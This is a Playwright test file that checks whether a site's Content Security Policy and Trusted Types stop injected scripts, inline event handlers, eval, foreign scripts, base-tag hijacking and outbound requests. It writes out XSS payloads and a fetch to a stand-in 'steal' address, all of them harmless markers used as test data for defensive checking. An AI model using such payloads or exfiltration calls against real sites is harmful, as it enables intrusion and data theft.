import type { Page } from '@playwright/test';
import { SECOND } from './support/built.ts';
import { expect, pagesOf, test } from './support/site.ts';

/** What an attacker who gets markup or code into a page would try; each must fail to run. */
const ATTACKS: Record<string, () => void> = {
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.hacked = true');
    document.body.append(script);
  },
  'an event handler in markup': () => {
    const image = document.createElement('img');
    image.setAttribute('onerror', 'window.hacked = true');
    image.src = 'no-such-image.png';
    document.body.append(image);
  },
  'markup as text of a sink': () => {
    document.body.innerHTML += '<img src="x" onerror="window.hacked = true">';
  },
  'a string run as code': () => {
    // In a task of its own: code that the debugger evaluates may use eval whatever the policy says.
    setTimeout(() => {
      const run: (code: string) => unknown = eval;
      run('window.hacked = true');
    });
  },
  'a script of another host': () => {
    const script = document.createElement('script');
    script.src = 'https://example.com/a.js';
    document.body.append(script);
  },
  'a script address that is not trusted': () => {
    const script = document.createElement('script');
    script.setAttribute('src', 'assets/app.js?again');
    document.body.append(script);
  },
  'a second policy': () => {
    const factory: unknown = Reflect.get(window, 'trustedTypes');
    if (typeof factory !== 'object' || factory === null) return;
    Reflect.apply(Reflect.get(factory, 'createPolicy'), factory, ['other', { createHTML: (html: string) => html }]);
    Reflect.set(window, 'hacked', true);
  },
  'a style attribute': () => {
    document.body.setAttribute('style', 'display: none');
    if (getComputedStyle(document.body).display === 'none') Reflect.set(window, 'hacked', true);
  },
  'a style element': () => {
    const style = document.createElement('style');
    style.append('body { display: none }');
    document.head.append(style);
    if (getComputedStyle(document.body).display === 'none') Reflect.set(window, 'hacked', true);
  },
  'a base address': () => {
    const base = document.createElement('base');
    base.href = 'https://example.com/';
    document.head.append(base);
    if (document.baseURI.startsWith('https://example.com')) Reflect.set(window, 'hacked', true);
  },
  'a connection outwards': () => {
    void fetch('https://example.com/steal').then(() => Reflect.set(window, 'hacked', true), () => undefined);
  },
};

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`the policy stops ${name}`, async ({ page, trouble }) => {
    await page.goto('learn/bearings.html');
    await runAttack(page, attack);
    expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
    expect(trouble.join('\n')).toMatch(/policy breach|Content Security Policy|Trusted|TrustedScriptURL/i);
    trouble.length = 0;
  });
}

test('hostile addresses do not get into the search page as markup or code', async ({ page }) => {
  await page.goto(`search.html?q=${encodeURIComponent('<img src=x onerror="window.hacked=true">tide')}`);
  await expect(page.getByRole('searchbox')).toHaveValue(/<img/);
  await expect(page.getByRole('main').locator('img')).toHaveCount(0);
  expect(await page.evaluate(() => Reflect.get(window, 'hacked'))).toBeUndefined();
});

test('every page carries the policy before anything that loads', async ({ page, request }) => {
  for (const path of await pagesOf(SECOND.dist)) {
    const html = await (await request.get(path)).text();
    const policy = html.indexOf('http-equiv=Content-Security-Policy');
    expect(policy, path).toBeGreaterThan(0);
    expect(policy, path).toBeLessThan(Math.min(html.indexOf('<script'), html.indexOf('<link')));
    expect(html, path).toContain("require-trusted-types-for 'script'; trusted-types fieldguide");
    expect(html.match(/'unsafe-[a-z-]+'/g) ?? [], path).toEqual([]);
  }
  await page.goto('index.html');
});

/** What a page throws at the attack is how the policy says no. */
async function runAttack(page: Page, attack: () => void): Promise<void> {
  await page.evaluate(attack).catch(() => undefined);
  await page.waitForTimeout(200);
}
